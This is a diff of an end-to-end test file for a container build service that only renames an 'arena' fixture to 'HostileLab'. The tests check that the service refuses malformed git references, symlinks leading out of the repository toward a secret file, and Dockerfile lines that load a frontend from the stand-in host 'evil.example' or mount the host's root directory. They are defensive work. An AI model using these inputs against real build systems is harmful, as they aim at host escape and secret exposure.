@@ -4,7 +4,7 @@ from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
-from hostile.arena import SECRET, Arena
+from hostile.lab import SECRET, HostileLab
 from support.tracks import git, make_repository
 
 pytestmark = pytest.mark.e2e
@@ -13,17 +13,17 @@ SHA = "0" * 40
 
 
 @pytest.fixture(scope="module")
-def repository(arena: Arena) -> Path:
-    """Give the bash track's tool a repository, and the arena a builder."""
-    make_repository("bash-test-runner", arena.repositories)
-    arena.own.worker("builder-1", "builders")
-    return arena.repositories / "bash-test-runner"
+def repository(lab: HostileLab) -> Path:
+    """Give the bash track's tool a repository, and the lab a builder."""
+    make_repository("bash-test-runner", lab.repositories)
+    lab.own.worker("builder-1", "builders")
+    return lab.repositories / "bash-test-runner"
 
 
-def build(arena: Arena, reference: str) -> tuple[int, str]:
+def build(lab: HostileLab, reference: str) -> tuple[int, str]:
     """Ask for a build; its code, and all that is said of it."""
     message = {"action": "build_container", "track_slug": "bash", "channel": "test_runners"}
-    reply = arena.say({**message, "git_reference": reference})
+    reply = lab.say({**message, "git_reference": reference})
     return reply["status"]["code"], str(reply)
 
 
@@ -35,9 +35,9 @@ def build(arena: Arena, reference: str) -> tuple[int, str]:
         *("*", "x" * 256, "master\0", "é"),
     ],
 )
-def test_malformed_references_go_nowhere(arena: Arena, repository: Path, reference: str) -> None:
-    mark = arena.own.folder / "mark"
-    code, text = build(arena, reference.replace("MARK", str(mark)))
+def test_malformed_references_go_nowhere(lab: HostileLab, repository: Path, reference: str) -> None:
+    mark = lab.own.folder / "mark"
+    code, text = build(lab, reference.replace("MARK", str(mark)))
     assert code == 502, text
     assert not mark.exists()
 
@@ -47,9 +47,9 @@ def test_malformed_references_go_nowhere(arena: Arena, repository: Path, referen
     ["a..b", "master.lock", "a//b", "master/", "master/../master", "master.", "HEAD", SHA, SHA[:7]],
 )
 def test_references_that_name_nothing_are_not_built(
-    arena: Arena, repository: Path, reference: str
+    lab: HostileLab, repository: Path, reference: str
 ) -> None:
-    code, text = build(arena, reference)
+    code, text = build(lab, reference)
     assert code == 400, text
 
 
@@ -65,12 +65,12 @@ def branch(repository: Path) -> Iterator[str]:
 
 @pytest.mark.parametrize("name", ["Dockerfile", "bin"])
 def test_a_link_out_of_a_repository_shows_nothing(
-    arena: Arena, repository: Path, branch: str, name: str
+    lab: HostileLab, repository: Path, branch: str, name: str
 ) -> None:
     git(repository, "rm", "-r", "--quiet", "--force", name)
-    (repository / name).symlink_to(arena.own.folder / "secret")
+    (repository / name).symlink_to(lab.own.folder / "secret")
     commit(repository)
-    code, text = build(arena, branch)
+    code, text = build(lab, branch)
     assert code in (400, 512, 513, 514), text
     assert SECRET not in text
 
@@ -79,12 +79,12 @@ def test_a_link_out_of_a_repository_shows_nothing(
     "line", ["# syntax=evil.example/front:1", "FROM scratch\nRUN --mount=src=/,dst=/host true"]
 )
 def test_a_dockerfile_that_asks_for_the_host_is_refused(
-    arena: Arena, repository: Path, branch: str, line: str
+    lab: HostileLab, repository: Path, branch: str, line: str
 ) -> None:
     file = repository / "Dockerfile"
     file.write_text(f"{line}\n{file.read_text()}")
     commit(repository)
-    code, text = build(arena, branch)
+    code, text = build(lab, branch)
     assert code == 400, text
     assert "the Dockerfile asks for" in text
 
